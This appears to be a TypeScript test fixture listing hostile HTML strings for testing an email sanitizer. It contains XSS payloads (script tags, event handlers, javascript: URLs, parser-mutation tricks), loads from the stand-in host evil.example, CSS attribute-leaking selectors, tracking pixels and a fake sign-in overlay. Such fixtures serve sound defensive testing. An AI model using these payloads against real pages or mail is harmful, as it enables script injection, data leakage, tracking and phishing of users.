/** HTML that tries to run a script, send something or fetch something; the names are the tests' names. */
export const hostileMail: Record<string, string> = {
  // Scripts and handlers
  'a script': '<script>alert(1)</script>',
  'a script from elsewhere': '<script src="http://evil.example/x.js"></script>',
  'a script in mixed case and unclosed': '<ScRiPt/x>alert(1)//',
  'a script in a script': '<scr<script>ipt>alert(1)</scr</script>ipt>',
  'a handler': '<img src=x onerror=alert(1)>',
  'a handler after a slash': '<img/src=x/onerror=alert(1)>',
  'a handler behind a NUL': '<img src=x o\0nerror=alert(1)>',
  'a handler without quotes around': '<img src=`x`onerror=alert(1)>',
  'a handler on the body': '<body onload=alert(1) onpageshow=alert(1)>',
  'a handler on details': '<details open ontoggle=alert(1)>x</details>',
  'a handler on focus': '<a id=x tabindex=1 autofocus onfocus=alert(1)>x</a><input autofocus onfocus=alert(1)>',
  'a handler by animation': '<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart=alert(1)>x</b>',
  'a handler on a marquee': '<marquee onstart=alert(1)>x</marquee>',
  'an attribute that breaks out': '<img alt="&quot; onerror=alert(1) src=x">',
  'a title that breaks out': '<a href="http://evil.example/&quot; onmouseover=alert(1) x=">x</a>',
  'an unclosed attribute': '<img src="x` `<script>alert(1)</script>"` `>',
  'a double-encoded script': '&lt;script&gt;alert(1)&lt;/script&gt;<p>&amp;lt;script&amp;gt;alert(1)',
  // Addresses that run
  'a javascript address': '<a href="javascript:alert(1)">x</a><img src="javascript:alert(1)">',
  'a javascript address with a tab': '<a href="jav&#x09;ascript:alert(1)">x</a>',
  'a javascript address behind control characters': '<a href=" &#14; javascript:alert(1)">x</a>',
  'a javascript address by entities': '<a href="&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116:alert(1)">x</a>',
  'a vbscript address': '<a href="vbscript:msgbox(1)">x</a>',
  'a data address': '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  'a data frame': '<iframe src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></iframe>',
  'a blob and a file address': '<a href="blob:http://x/1">x</a><img src="file:///etc/passwd">',
  // Active elements
  'a frame with a document': '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  'an object and an embed': '<object data="http://evil.example/o"></object><embed src="http://evil.example/e">',
  'a refresh': '<meta http-equiv="refresh" content="0;url=http://evil.example/r">',
  'a base': '<base href="http://evil.example/"><img src="relative.png"><a href="relative">x</a>',
  'a form':
    '<form action="http://evil.example/f"><input name=a value=1><button formaction="javascript:alert(1)">x</button></form>',
  'a linked sheet':
    '<link rel=stylesheet href="http://evil.example/s.css"><link rel=prefetch href="http://evil.example/p">',
  'a dns hint': '<link rel="dns-prefetch" href="//leak.evil.example"><link rel=preconnect href="http://evil.example">',
  // Foreign content and parsers that disagree
  'an svg with a handler': '<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s>',
  'an svg with a script': '<svg><script>alert(1)</script><g/onload=alert(1)></svg>',
  'an svg with a link': '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
  'an svg that uses another':
    '<svg><use href="http://evil.example/u.svg#x"/><image href="http://evil.example/i.png"/></svg>',
  'an svg image': "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>\">",
  'an svg style that ends early': '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  'a math mutation':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  'a form mutation': '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  'a noscript mutation': '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  'a template': '<template><img src=x onerror=alert(1)></template>',
  'a textarea mutation': '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  'a title mutation': '<title><b title="</title><img src=x onerror=alert(1)>"></title>',
  'an xmp mutation': '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  'a plaintext': '<plaintext><img src=x onerror=alert(1)>',
  'a select mutation': '<select><style></select><img src=x onerror=alert(1)></style>',
  'a comment that ends early': '<!--><img src=x onerror=alert(1)>--><!--!><img src=x onerror=alert(1)>-->',
  'a conditional comment':
    '<!--[if gte IE 4]><script>alert(1)</script><![endif]--><![if true]><script>alert(1)</script><![endif]>',
  'a section of CDATA': '<![CDATA[<img src=x onerror=alert(1)>]]><svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>',
  'an instruction': '<?xml-stylesheet href="javascript:alert(1)"?><?x ><img src=x onerror=alert(1)>?>',
  // CSS
  'a style that ends early': '<style>a{color:red}</sty</style><img src=x onerror=alert(1)></style>',
  'a style whose string ends it': '<style>a{font-family:"</style><img src=x onerror=alert(1)>"}</style>',
  'a CSS expression':
    '<div style="width: expression(alert(1)); behavior: url(x.htc); -moz-binding: url(http://evil.example/x)">x</div>',
  'a CSS import': '<style>@import url("http://evil.example/a.css"); @import "http://evil.example/b.css";</style>',
  'a CSS font': '<style>@font-face{font-family:x;src:url(http://evil.example/f.woff)}p{font-family:x}</style><p>x',
  'a CSS background':
    '<p style="background:url(http://evil.example/b.png)">x</p><style>p{background-image:url( \'http://evil.example/c.png\' )}</style>',
  'a CSS address by escapes': String.raw`<p style="background:\75\72\6c(http://evil.example/b.png)">x</p>`,
  'a CSS address in comments': '<p style="background:u/**/rl(http://evil.example/b.png); color:red/*">x</p>',
  'a CSS image set':
    '<p style="background:image-set(\'http://evil.example/1.png\' 1x); content: url(http://evil.example/2.png)">x</p>',
  'a CSS variable': '<style>:root{--x:url(http://evil.example/v.png)} p{background:var(--x)}</style><p>x',
  'a CSS cursor, filter and mask':
    '<p style="cursor:url(http://evil.example/c),auto; filter:url(http://evil.example/f#x); mask:url(http://evil.example/m)">x</p>',
  'a CSS string that never ends': '<p style="font-family:\'a;background:url(http://evil.example/b.png)">x</p>',
  'CSS that breaks out of its string':
    '<style>p{font-family:"a\n;background:url(http://evil.example/b.png);x:"}</style><p>x',
  'CSS that reads attributes':
    '<style>a[href^="h"]{background:url(http://evil.example/?h)}</style><a href="http://x.example">x</a>',
  'CSS that swallows the next rule':
    '<style>a[{color:red} ]p{background:url(http://evil.example/b.png)} @media ({p{color:red}}</style>',
  'CSS in other rules':
    '<style>@supports (color:red){p{background:url(http://evil.example/s)}} @namespace x "http://evil.example"; @page{background:url(http://evil.example/p)}</style><p>x',
  'CSS nested in a rule': '<style>p{color:red; & b{background:url(http://evil.example/n)}}</style><p><b>x</b>',
  'a layer over everything':
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">Sign in again</div>',
  // Tracking
  'a pixel': '<img src="http://evil.example/pixel.gif?id=1" width=1 height=1>',
  'a pixel without a scheme':
    '<img src="//evil.example/pixel.gif"><img src="\\\\evil.example\\p.gif"><img src="/\\evil.example/p.gif">',
  'a pixel behind blanks': '<img src=" \n http:/\n/evil.example/pixel.gif">',
  'a set of images': '<img srcset="http://evil.example/1.png 1x, http://evil.example/2.png 2x" sizes="100vw">',
  'a picture': '<picture><source srcset="http://evil.example/1.webp"><img src="http://evil.example/1.png"></picture>',
  'a background':
    '<table background="http://evil.example/t.png"><tr><td background="http://evil.example/d.png">x</table><body background="http://evil.example/b.png">',
  'a film':
    '<video poster="http://evil.example/p.png" src="http://evil.example/v.mp4" autoplay></video><audio src="http://evil.example/a.mp3" autoplay></audio>',
  'an old image':
    '<image src="http://evil.example/i.png"><input type=image src="http://evil.example/n.png"><img lowsrc="http://evil.example/l.png" dynsrc="http://evil.example/d.png">',
  'a ping': '<a href="http://x.example" ping="http://evil.example/ping">x</a>',
  'a manifest and an icon': '<link rel="icon" href="http://evil.example/i.ico"><html manifest="http://evil.example/m">',
}
